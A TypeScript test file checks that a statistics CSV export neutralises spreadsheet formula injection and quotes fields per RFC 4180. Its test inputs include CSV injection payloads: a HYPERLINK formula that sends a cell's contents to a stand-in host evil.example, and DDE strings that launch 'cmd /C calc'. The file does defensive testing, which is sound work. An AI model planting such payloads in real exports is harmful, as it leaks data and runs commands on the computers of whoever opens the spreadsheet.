/**
 * The statistics' CSV export: every text cell a spreadsheet could read as a formula (OWASP: `=`,
 * `+`, `-`, `@`, tab, carriage return at the start) opens as text, and RFC 4180 quoting keeps
 * commas, quotes and line breaks inside their cell. Read back with a real CSV parser (csv-parse),
 * so what is checked is what a spreadsheet gets.
 */
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { FORMULA_STARTS, csvField, neutraliseText, toCsv } from '../../src/shared/statistics/csv';

/** The rows a spreadsheet reads from the text (no trimming, no casting: every cell as text). */
const readBack = (csv: string): string[][] => parse(csv, { relax_column_count: false, record_delimiter: '\r\n' });

describe('formula injection', () => {
  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

  it.each(hostile)('a cell starting with %j opens as text, with one quote in front', (text) => {
    const [header, row] = readBack(toCsv({ header: ['Librarian'], rows: [[text]] }));
    expect(header).toEqual(['Librarian']);
    expect(row).toEqual([`'${text}`]);
  });

  it('each of the six starts is covered, and only at the start', () => {
    expect([...FORMULA_STARTS].sort()).toEqual(['\t', '\r', '+', '-', '=', '@'].sort());
    for (const start of FORMULA_STARTS) expect(neutraliseText(`${start}x`)).toBe(`'${start}x`);
    expect(neutraliseText('a=b')).toBe('a=b');
    expect(neutraliseText('Tunxis - main')).toBe('Tunxis - main');
    expect(neutraliseText('')).toBe('');
  });

  it('figures stay figures (a number cannot carry a formula); nothing is an empty field', () => {
    expect(toCsv({ header: ['Chats', 'Median (s)', 'None'], rows: [[12, 19.5, null]] })).toBe('Chats,Median (s),None\r\n12,19.5,\r\n');
    expect(csvField(Number.NaN)).toBe('');
  });

  it('whatever the text, no cell read back starts a formula, and the text comes back whole', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.string({ unit: 'binary' }), { minLength: 2, maxLength: 2 }), { maxLength: 5 }), (rows) => {
        const back = readBack(toCsv({ header: ['a', 'b'], rows }));
        expect(back.slice(1)).toEqual(rows.map((row) => row.map(neutraliseText)));
        for (const cell of back.flat()) expect(FORMULA_STARTS.some((start) => cell.startsWith(start))).toBe(false);
      }),
    );
  });
});

describe('RFC 4180 quoting', () => {
  it('quotes a field with a comma, a quote or a line break, doubles its quotes, and ends each line with CRLF', () => {
    const csv = toCsv({ header: ['Campus', 'Note'], rows: [['Naugatuck Valley, Waterbury', 'She said "soon"'], ['Line one\nline two', 'plain']] });
    expect(csv).toBe('Campus,Note\r\n"Naugatuck Valley, Waterbury","She said ""soon"""\r\n"Line one\nline two",plain\r\n');
    expect(readBack(csv)).toEqual([
      ['Campus', 'Note'],
      ['Naugatuck Valley, Waterbury', 'She said "soon"'],
      ['Line one\nline two', 'plain'],
    ]);
  });

  it('a dangerous cell that also needs quoting is neutralised inside its quotes', () => {
    expect(csvField('=1,2')).toBe(`"'=1,2"`);
    expect(csvField('-"x"')).toBe(`"'-""x"""`);
  });
});
